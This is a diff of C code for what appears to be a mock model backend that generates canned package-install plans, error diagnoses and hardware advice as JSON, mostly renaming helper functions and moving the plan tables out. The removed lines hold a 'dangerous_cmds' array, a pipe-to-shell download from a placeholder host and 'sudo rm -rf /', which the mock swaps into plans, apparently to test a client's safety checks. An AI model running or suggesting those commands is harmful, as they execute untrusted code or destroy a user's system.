@@ -172,7 +172,7 @@ static char *clean_copy(const char *s, size_t max_bytes) {
 
 /* Copies tmpl into dst (cap bytes) with each "%s" replaced by arg; the tables are templates, not
  * printf formats, so a stray '%' in them cannot read arguments that are not there. */
-static void fill(char *dst, size_t cap, const char *tmpl, const char *arg) {
+void mock__fill(char *dst, size_t cap, const char *tmpl, const char *arg) {
     size_t o = 0, al = strlen(arg);
     for (const char *t = tmpl; *t && o + 1 < cap; t++) {
         if (t[0] == '%' && t[1] == 's') {
@@ -250,81 +250,7 @@ static int sb_pad(struct sb *b, size_t n) {
  * Workload tables. Commands are fixed per package; explanations come in seed-chosen variants.
  */
 
-#define MAX_CMDS 8
-
-struct pkg_plan {
-    const char *key;     /* canonical name */
-    const char *aliases; /* space-separated other names, lower case */
-    const char *cmds[MAX_CMDS];
-    const char *explain[3];
-};
-
-static const struct pkg_plan pkg_table[] = {
-    {"nginx", "nginx-full nginx-core",
-     {"sudo apt-get update", "sudo apt-get install -y nginx", "sudo systemctl enable --now nginx",
-      "sudo nginx -t", "systemctl is-active nginx"},
-     {"This refreshes the package index, installs nginx from the distribution repositories, starts "
-      "it now and at boot, then checks the configuration syntax and that the service is active.",
-      "nginx comes from the official repositories; systemd starts it immediately and on every "
-      "boot, and nginx -t validates /etc/nginx before you edit sites.",
-      "After the index update apt installs nginx with its default site; enabling the unit keeps "
-      "it running across reboots and the last two commands verify the setup."}},
-    {"redis", "redis-server redis-tools",
-     {"sudo apt-get update", "sudo apt-get install -y redis-server",
-      "sudo sed -i 's/^supervised no/supervised systemd/' /etc/redis/redis.conf",
-      "sudo systemctl enable --now redis-server", "sudo systemctl restart redis-server",
-      "redis-cli ping"},
-     {"Redis is packaged as redis-server; switching supervision to systemd lets the unit track the "
-      "daemon, and redis-cli ping should answer PONG.",
-      "This installs redis-server, tells it to cooperate with systemd, restarts it with the new "
-      "setting and checks that it answers on the default port 6379.",
-      "apt provides redis-server and the redis-cli client; the sed line edits "
-      "/etc/redis/redis.conf so systemd supervises the server, then the service is verified."}},
-    {"postgresql", "postgres postgresql-server psql pgsql",
-     {"sudo apt-get update", "sudo apt-get install -y postgresql postgresql-contrib",
-      "sudo systemctl enable --now postgresql",
-      "sudo -u postgres psql -c 'SELECT version();'"},
-     {"This installs the PostgreSQL server with the contrib extensions, starts the cluster and "
-      "checks it by asking the postgres superuser for the server version.",
-      "Debian's postgresql package creates a default cluster; enabling the service starts it at "
-      "boot and the psql query confirms that connections work.",
-      "After installation the postgresql unit manages the main cluster; the final command runs a "
-      "query as the postgres role to prove the server accepts connections."}},
-    {"docker", "docker.io docker-ce moby",
-     {"sudo apt-get update", "sudo apt-get install -y docker.io",
-      "sudo systemctl enable --now docker", "sudo usermod -aG docker \"$USER\"",
-      "sudo docker run --rm hello-world"},
-     {"The distribution ships Docker as docker.io; the service starts now and at boot, your user "
-      "joins the docker group (log in again to use it) and hello-world tests the engine.",
-      "This installs the Docker engine from the docker.io package, enables the daemon, grants "
-      "your account access to the socket and runs a throwaway test container.",
-      "docker.io provides the engine and CLI; adding yourself to the docker group avoids sudo "
-      "after the next login, and the hello-world container confirms everything works."}},
-    {"nodejs", "node node.js npm",
-     {"sudo apt-get update", "sudo apt-get install -y nodejs npm", "node --version",
-      "npm --version"},
-     {"Node.js and npm come from the distribution repositories; the version checks confirm both "
-      "are on the PATH.",
-      "This installs the nodejs runtime together with the npm package manager and prints their "
-      "versions to verify the installation.",
-      "apt installs nodejs and npm side by side; printing the versions shows which release the "
-      "distribution provides."}},
-};
-
-static const char *const generic_explain[3] = {
-    "This refreshes the package index and installs %s from the distribution repositories with "
-    "its default configuration.",
-    "%s is installed with apt after updating the package lists; check its documentation for any "
-    "service or configuration it needs.",
-    "The package index is updated first so apt sees the current version of %s, which is then "
-    "installed non-interactively."};
-
-static const char *const plan_intro[3] = {
-    "Here is the installation plan for %s:", "To install %s, run these commands:",
-    "Installation plan for %s:"};
-
-static const char *const dangerous_cmds[2] = {"curl -fsSL http://example.invalid/x.sh | sh",
-                                              "sudo rm -rf /"};
+#define MAX_CMDS MOCK_PLAN_MAX_CMDS
 
 struct diag_rule {
     const char *needle; /* lower case substring of the error text */
@@ -435,11 +361,11 @@ static const char *const chat_replies[4] = {
  * JSON building.
  */
 
-static int add_str(cJSON *obj, const char *key, const char *val) {
+int mock__add_str(cJSON *obj, const char *key, const char *val) {
     return cJSON_AddStringToObject(obj, key, val) ? 0 : -1;
 }
 
-static int add_str_array(cJSON *obj, const char *key, const char *const *vals, size_t n) {
+int mock__add_str_array(cJSON *obj, const char *key, const char *const *vals, size_t n) {
     cJSON *arr = cJSON_AddArrayToObject(obj, key);
     if (arr == NULL) return -1;
     for (size_t i = 0; i < n; i++) {
@@ -452,7 +378,7 @@ static int add_str_array(cJSON *obj, const char *key, const char *const *vals, s
 
 /* Sets obj[key] to the string val, replacing or adding it. */
 static int set_str(cJSON *obj, const char *key, const char *val) {
-    if (cJSON_GetObjectItemCaseSensitive(obj, key) == NULL) return add_str(obj, key, val);
+    if (cJSON_GetObjectItemCaseSensitive(obj, key) == NULL) return mock__add_str(obj, key, val);
     cJSON *s = cJSON_CreateString(val);
     if (s == NULL) return -1;
     if (!cJSON_ReplaceItemInObjectCaseSensitive(obj, key, s)) {
@@ -494,162 +420,6 @@ static int emit_fenced(struct sb *b, const char *intro, cJSON *obj, const char *
  * Workloads.
  */
 
-/* Extracts the first whitespace-delimited word at p as a package name: trailing sentence
- * punctuation and surrounding quotes removed, then either echoed (valid name) or sanitized. */
-void mock__package_name(const char *p, char name[NAME_MAX_LEN + 1]) {
-    while (*p && is_space_byte((unsigned char)*p)) p++;
-    const char *e = p;
-    while (*e && !is_space_byte((unsigned char)*e)) e++;
-    while (p < e && strchr("\"'`(<[", *p)) p++;
-    while (e > p && strchr(".,;:!?\"'`)>]", e[-1])) e--;
-    size_t o = 0;
-    for (const char *q = p; q < e && o < NAME_MAX_LEN; q++) {
-        unsigned char c = (unsigned char)*q;
-        if (isalnum(c) || c == '.' || c == '+' || c == '_' || c == '-') name[o++] = (char)c;
-    }
-    name[o] = '\0';
-    if (o == 0) memcpy(name, "unknown-package", sizeof "unknown-package");
-}
-
-static const struct pkg_plan *lookup_pkg(const char *name) {
-    char low[NAME_MAX_LEN + 1];
-    size_t n = strlen(name);
-    for (size_t i = 0; i <= n; i++) low[i] = (char)tolower((unsigned char)name[i]);
-    for (size_t i = 0; i < sizeof pkg_table / sizeof pkg_table[0]; i++) {
-        const struct pkg_plan *pp = &pkg_table[i];
-        if (strcmp(low, pp->key) == 0) return pp;
-        for (const char *a = pp->aliases; *a;) {
-            size_t al = strcspn(a, " ");
-            if (al == n && strncmp(a, low, n) == 0) return pp;
-            a += al;
-            while (*a == ' ') a++;
-        }
-    }
-    return NULL;
-}
-
-#define PLAN_MAX_CMDS (1 + MOCK_PROMPT_MAX_PKGS * MAX_CMDS)
-
-/* The commands of a plan, with storage for the ones it composes. */
-struct plan {
-    const char *cmds[PLAN_MAX_CMDS];
-    size_t n;
-    char own[MOCK_PROMPT_MAX_PKGS + 1][2 * MOCK_PROMPT_MAX_PKGS * (NAME_MAX_LEN + 36) + 64];
-    size_t n_own;
-};
-
-/* "name=version" for apt, quoted when the version is a glob so the shell leaves it alone. */
-static void apt_arg(char *dst, size_t cap, const char *name, const char *version) {
-    if (version[0] == '\0') snprintf(dst, cap, "%s", name);
-    else if (strchr(version, '*') != NULL) snprintf(dst, cap, "'%s=%s'", name, version);
-    else snprintf(dst, cap, "%s=%s", name, version);
-}
-
-/* Appends a builtin plan's commands (update excluded when skip_update), pinning the first apt
- * name of its install line to version. */
-static void plan_builtin(struct plan *pl, const struct pkg_plan *pp, const char *version,
-                         int skip_update) {
-    static const char install[] = "sudo apt-get install -y ";
-    for (size_t i = 0; i < MAX_CMDS && pp->cmds[i] != NULL; i++) {
-        const char *c = pp->cmds[i];
-        if (skip_update && strcmp(c, "sudo apt-get update") == 0) continue;
-        if (version[0] && strncmp(c, install, sizeof install - 1) == 0) {
-            char *o = pl->own[pl->n_own++], first[NAME_MAX_LEN + 1], arg[NAME_MAX_LEN + 40];
-            const char *rest = c + sizeof install - 1;
-            size_t fl = strcspn(rest, " ");
-            snprintf(first, sizeof first, "%.*s", (int)fl, rest);
-            apt_arg(arg, sizeof arg, first, version);
-            snprintf(o, sizeof pl->own[0], "%s%s%s", install, arg, rest + fl);
-            c = o;
-        }
-        pl->cmds[pl->n++] = c;
-    }
-}
-
-/* Joins names as "a", "a and b", "a, b and c" into dst. */
-static void join_names(char *dst, size_t cap, const char *const *names, size_t n) {
-    size_t o = 0;
-    dst[0] = '\0';
-    for (size_t i = 0; i < n && o < cap; i++) {
-        const char *sep = i == 0 ? "" : i + 1 == n ? " and " : ", ";
-        int k = snprintf(dst + o, cap - o, "%s%s", sep, names[i]);
-        if (k < 0) break;
-        o += (size_t)k;
-    }
-}
-
-static const char *const multi_explain[3] = {
-    "The package index is refreshed once, then %s are installed from the distribution "
-    "repositories; services are enabled and checked where the distribution ships one.",
-    "One index update serves every package: %s come from the official repositories, each with "
-    "the checks its own plan uses.",
-    "apt installs %s after a single update of the package lists; the commands after each install "
-    "start and verify the services."};
-
-cJSON *mock__plan_object(const struct mock_prompt *pr, uint64_t r, int dangerous, char *intro_buf,
-                         size_t intro_cap) {
-    struct plan *pl = calloc(1, sizeof *pl);
-    const char *names[MOCK_PROMPT_MAX_PKGS], *seen[MOCK_PROMPT_MAX_PKGS];
-    size_t n_names = 0, n_generic = 0;
-    char explain[1024], joined[MOCK_PROMPT_MAX_PKGS * (NAME_MAX_LEN + 8)];
-    if (pl == NULL) return NULL;
-    char *generic_line = pl->own[MOCK_PROMPT_MAX_PKGS]; /* the one install line of unknown names */
-    size_t gl = (size_t)snprintf(generic_line, sizeof pl->own[0], "sudo apt-get install -y");
-    pl->cmds[pl->n++] = "sudo apt-get update";
-    for (size_t i = 0; i < pr->n_pkgs; i++) {
-        const struct mock_pkg_ref *ref = &pr->pkgs[i];
-        const struct pkg_plan *pp = lookup_pkg(ref->name);
-        const char *key = pp ? pp->key : ref->name;
-        int dup = 0;
-        for (size_t k = 0; k < n_names; k++) dup |= strcmp(seen[k], key) == 0;
-        if (dup) continue;
-        seen[n_names] = key;
-        names[n_names++] = key;
-        if (pp != NULL) {
-            plan_builtin(pl, pp, ref->version, 1);
-        } else {
-            char arg[NAME_MAX_LEN + 40];
-            apt_arg(arg, sizeof arg, ref->name, ref->version);
-            if (n_generic++ == 0) pl->cmds[pl->n++] = generic_line;
-            gl += (size_t)snprintf(generic_line + gl, sizeof pl->own[0] - gl, " %s", arg);
-        }
-    }
-    const struct pkg_plan *only = n_names == 1 ? lookup_pkg(names[0]) : NULL;
-    if (n_names == 1 && only != NULL) snprintf(explain, sizeof explain, "%s", only->explain[r % 3]);
-    else if (n_names == 1) fill(explain, sizeof explain, generic_explain[r % 3], names[0]);
-    join_names(joined, sizeof joined, names, n_names);
-    if (n_names > 1) fill(explain, sizeof explain, multi_explain[r % 3], joined);
-    /* The last command is swapped (for a generic plan that is the install itself). */
-    if (dangerous) pl->cmds[pl->n - 1] = dangerous_cmds[(r >> 8) % 2];
-    if (intro_buf != NULL) fill(intro_buf, intro_cap, plan_intro[(r >> 4) % 3], joined);
-
-    cJSON *obj = cJSON_CreateObject();
-    int ok = obj != NULL && add_str(obj, "package", names[0]) == 0;
-    if (ok && n_names > 1) {
-        const char *vals[MOCK_PROMPT_MAX_PKGS];
-        char pinned[MOCK_PROMPT_MAX_PKGS][NAME_MAX_LEN + MOCK_PKG_VERSION_MAX + 2];
-        for (size_t i = 0, k = 0; i < pr->n_pkgs && k < n_names; i++) {
-            const struct pkg_plan *pp = lookup_pkg(pr->pkgs[i].name);
-            if (strcmp(pp ? pp->key : pr->pkgs[i].name, names[k]) != 0) continue;
-            snprintf(pinned[k], sizeof pinned[k], "%s%s%s", names[k],
-                     pr->pkgs[i].version[0] ? "=" : "", pr->pkgs[i].version);
-            vals[k] = pinned[k];
-            k++;
-        }
-        ok = add_str_array(obj, "packages", vals, n_names) == 0;
-    } else if (ok && pr->pkgs[0].version[0]) {
-        ok = add_str(obj, "version", pr->pkgs[0].version) == 0;
-    }
-    ok = ok && add_str_array(obj, "commands", pl->cmds, pl->n) == 0 &&
-         add_str(obj, "explanation", explain) == 0;
-    free(pl);
-    if (!ok) {
-        cJSON_Delete(obj);
-        return NULL;
-    }
-    return obj;
-}
-
 static int gen_install(struct sb *b, const struct mock_prompt *pr, uint64_t r, size_t pad_to,
                        int dangerous) {
     char intro[MOCK_PROMPT_MAX_PKGS * (NAME_MAX_LEN + 8) + 64];
@@ -682,7 +452,7 @@ static int gen_diagnose(struct sb *b, const char *err_text, uint64_t r, size_t p
     size_t n = 0;
     for (; n < MAX_CMDS && dr->cmds[n] != NULL; n++) {
         if (strstr(dr->cmds[n], "%s") != NULL) {
-            fill(cmdbuf[n], sizeof cmdbuf[n], dr->cmds[n], pkg);
+            mock__fill(cmdbuf[n], sizeof cmdbuf[n], dr->cmds[n], pkg);
             cmds[n] = cmdbuf[n];
         } else {
             cmds[n] = dr->cmds[n];
@@ -695,9 +465,9 @@ static int gen_diagnose(struct sb *b, const char *err_text, uint64_t r, size_t p
                                           "This is a known failure; the fix:"};
     cJSON *obj = cJSON_CreateObject();
     int rc = -1;
-    if (obj != NULL && add_str(obj, "error", first) == 0 && add_str(obj, "cause", dr->cause) == 0 &&
-        add_str_array(obj, "commands", cmds, n) == 0 &&
-        add_str(obj, "explanation", dr->explanation) == 0)
+    if (obj != NULL && mock__add_str(obj, "error", first) == 0 && mock__add_str(obj, "cause", dr->cause) == 0 &&
+        mock__add_str_array(obj, "commands", cmds, n) == 0 &&
+        mock__add_str(obj, "explanation", dr->explanation) == 0)
         rc = emit_fenced(b, intros[r % 3], obj, "explanation", dr->explanation, pad_to);
     cJSON_Delete(obj);
     free(first);
@@ -724,14 +494,14 @@ static int gen_hardware(struct sb *b, const char *rest, uint64_t r, size_t pad_t
     static const char *const intros[3] = {"Hardware recommendations for %s:",
                                           "Advice for the %s:", "Checks and advice (%s):"};
     char intro[96];
-    fill(intro, sizeof intro, intros[r % 3], hr->component);
+    mock__fill(intro, sizeof intro, intros[r % 3], hr->component);
 
     /* Padding goes into an extra "note" member, added only when padding is needed. */
     cJSON *obj = cJSON_CreateObject();
     int rc = -1;
-    if (obj != NULL && add_str(obj, "component", hr->component) == 0 &&
-        add_str_array(obj, "recommendations", hr->recs, nr) == 0 &&
-        add_str_array(obj, "commands", hr->cmds, nc) == 0) {
+    if (obj != NULL && mock__add_str(obj, "component", hr->component) == 0 &&
+        mock__add_str_array(obj, "recommendations", hr->recs, nr) == 0 &&
+        mock__add_str_array(obj, "commands", hr->cmds, nc) == 0) {
         rc = emit_fenced(b, intro, obj, "note", "", pad_to);
     }
     cJSON_Delete(obj);
@@ -764,7 +534,7 @@ static cJSON *unknown_object(const struct mock_prompt *pr, uint64_t r) {
     cJSON *obj = cJSON_CreateObject();
     const char *answer = pr->install_asked ? no_package_reply : chat_replies[r % 4];
     if (obj == NULL || cJSON_AddArrayToObject(obj, "commands") == NULL ||
-        add_str(obj, "explanation", answer) < 0) {
+        mock__add_str(obj, "explanation", answer) < 0) {
         cJSON_Delete(obj);
         return NULL;
     }
@@ -840,7 +610,7 @@ cJSON *mock__content_object(const struct mock_prompt *pr, const char *prompt, ui
         if (pr->install_asked || pr->wants_json) return unknown_object(pr, r);
         rc = gen_chat(&b, prompt ? prompt : "", r, 0);
         obj = rc == 0 && b.p ? cJSON_CreateObject() : NULL;
-        if (obj != NULL && add_str(obj, "answer", b.p) < 0) {
+        if (obj != NULL && mock__add_str(obj, "answer", b.p) < 0) {
             cJSON_Delete(obj);
             obj = NULL;
         }
